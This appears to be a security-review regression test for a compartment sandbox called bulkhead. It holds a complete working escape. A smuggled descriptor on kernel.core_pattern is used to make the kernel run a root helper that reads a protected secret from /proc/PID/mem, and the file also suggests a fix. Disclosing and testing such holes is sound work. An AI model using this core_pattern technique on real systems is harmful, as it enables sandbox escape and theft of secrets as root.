// Review 31, attacker model B (the default domain's program counter, any
// system call the filter allows), with a descriptor the program holds at
// start-up but cannot see: review 30's queued descriptor, this time on a
// kernel setting. The launcher (root) opens /proc/sys/kernel/core_pattern
// for writing, queues that descriptor (SCM_RIGHTS) on a socketpair end it
// hands over as fd 9, closes its own copy and runs the program (as root:
// a sysctl checks the writer's ids at each write, not only at the open).
// syscalls.c refuse_setting_descriptors walks /proc/self/fd only when the
// filter is installed: it sees a socket, no descriptor on a setting. (The
// start-up copies treat a held Unix socket as a possible writable
// descriptor since review 30; this walk does not.) After main, recvmsg
// (allowed) hands the descriptor over, no open the supervisor could
// refuse (it refuses root's own open of core_pattern since review 30);
// main writes "|HELPER PID ADDR OUT" through it, a fork aborts,
// and the kernel starts HELPER as root outside the filter, which reads the
// vault's secret through /proc/PID/mem.
//
// Here the control is launched the same way and reads the secret from the
// default domain: it faults.
//
// Seen in the guest (root): ATTACK SUCCEEDED.
//
// Suggested fix: at the filter's installation, a process that holds a
// Unix socket is treated as holding such a descriptor: refused, or the
// sockets' queues are drained and judged (as the start-up copies do,
// supervisor-own.c holds_unix_socket); in any case, the kernel settings
// are better kept by what the kernel runs than by opens: no core dumps for
// a process with compartments (attacks-rev31-core-from-vault.c).
// XFAIL: *
// REQUIRES: pku
// RUN: rm -rf %t && mkdir -p %t
// RUN: %clang -DHELPER -O1 %s -o %t/helper
// RUN: %clang -DLAUNCHER -O1 %s -o %t/launch
// RUN: %bulkhead_clang -fpkey-compartments -O1 %s -o %t/prog
// RUN: env BULKHEAD_VM_FILES=%t/prog:%t/helper %run %t/launch %t/prog control %t/helper > %t/control.out 2>&1 || true
// RUN: FileCheck --check-prefix=CONTROL %s < %t/control.out
// RUN: env BULKHEAD_VM_FILES=%t/prog:%t/helper %run %t/launch %t/prog attack %t/helper > %t/out 2>&1 || true
// RUN: FileCheck %s < %t/out
// CONTROL: uid 0
// CONTROL-NOT: ATTACK SUCCEEDED
// CONTROL: bulkhead: protection-key fault: access to 0x{{[0-9a-f]+}} in compartment 'vault'
// CHECK-NOT: ATTACK SUCCEEDED
// CHECK: bulkhead: {{.*}}kernel setting
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#if defined(HELPER)
/* helper PID ADDR OUT: 31 bytes of PID's memory at ADDR into OUT. */
int main(int argc, char **argv) {
  if (argc < 4)
    return 2;
  char path[64], buf[32] = {0};
  snprintf(path, sizeof path, "/proc/%s/mem", argv[1]);
  int mem = open(path, O_RDONLY);
  long got = mem < 0 ? -1
                     : (long)pread(mem, buf, 31,
                                   (off_t)strtoull(argv[2], NULL, 16));
  int out = open(argv[3], O_WRONLY | O_CREAT | O_TRUNC, 0644);
  if (out >= 0 && got > 0 && write(out, buf, (size_t)got) < 0)
    return 1;
  return 0;
}
#elif defined(LAUNCHER)
/* launch PROG ARGS...: core_pattern open for writing, queued on the
 * socket that becomes fd 9 and closed; then PROG. */
int main(int argc, char **argv) {
  if (argc < 2)
    return 2;
  int sv[2], fd = open("/proc/sys/kernel/core_pattern", O_WRONLY);
  if (fd < 0 || socketpair(AF_UNIX, SOCK_DGRAM, 0, sv))
    return 2;
  char byte = 'x', ctl[CMSG_SPACE(sizeof(int))];
  struct iovec io = {&byte, 1};
  struct msghdr m = {0};
  m.msg_iov = &io, m.msg_iovlen = 1;
  m.msg_control = ctl, m.msg_controllen = sizeof ctl;
  struct cmsghdr *c = CMSG_FIRSTHDR(&m);
  c->cmsg_level = SOL_SOCKET, c->cmsg_type = SCM_RIGHTS;
  c->cmsg_len = CMSG_LEN(sizeof(int));
  memcpy(CMSG_DATA(c), &fd, sizeof fd);
  if (sendmsg(sv[0], &m, 0) != 1)
    return 2;
  close(fd);
  close(sv[0]);
  if (dup2(sv[1], 9) != 9)
    return 2;
  close(sv[1]);
  execv(argv[1], argv + 1);
  return 127;
}
#else
#include <bulkhead.h>

BULKHEAD_DATA(vault) static char secret[32] = "TOP-SECRET-VAULT-KEY";
BULKHEAD_ENTRY(vault) int vault_len(void) { return (int)strlen(secret); }

int main(int argc, char **argv) {
  printf("uid %d\nvault says %d\n", (int)getuid(), vault_len());
  fflush(stdout);
  if (argc < 3)
    return 2;
  static char copy[32];
  if (strcmp(argv[1], "attack")) {
    memcpy(copy, secret, 31); /* faults: the vault is closed here */
    printf("read directly: %s\n", copy);
    return 0;
  }
  char byte, ctl[CMSG_SPACE(sizeof(int))];
  struct iovec io = {&byte, 1};
  struct msghdr m = {0};
  m.msg_iov = &io, m.msg_iovlen = 1;
  m.msg_control = ctl, m.msg_controllen = sizeof ctl;
  int fd = -1;
  if (recvmsg(9, &m, 0) == 1 && CMSG_FIRSTHDR(&m))
    memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&m)), sizeof fd);
  const char *out = "/tmp/r31q.out";
  /* core_pattern keeps 127 bytes: the helper under a short name */
  unlink("/tmp/r31h");
  if (symlink(argv[2], "/tmp/r31h"))
    printf("symlink failed\n");
  char pattern[128];
  snprintf(pattern, sizeof pattern, "|/tmp/r31h %d %lx %s", (int)getpid(),
           (unsigned long)secret, out);
  long put = fd < 0 ? -1 : (long)write(fd, pattern, strlen(pattern));
  printf("received a descriptor: %d, core_pattern written: %ld\n", fd >= 0,
         put);
  fflush(stdout);
  pid_t child = fork();
  if (child == 0)
    abort(); /* dumps core: the kernel starts the helper */
  int st;
  waitpid(child, &st, 0);
  long got = -1; /* the helper runs on its own: 10 s at most */
  for (int i = 0; i < 100 && got != 31; i++) {
    int f = open(out, O_RDONLY);
    got = f < 0 ? -1 : (long)read(f, copy, 31);
    if (f >= 0)
      close(f);
    if (got != 31)
      usleep(100000);
  }
  if (fd >= 0 && lseek(fd, 0, SEEK_SET) == 0 && write(fd, "core", 4) != 4)
    printf("core_pattern not put back\n");
  if (strstr(copy, "TOP-SECRET"))
    printf("ATTACK SUCCEEDED: the vault's secret read: %s\n", copy);
  else
    printf("attack failed\n");
  return 0;
}
#endif
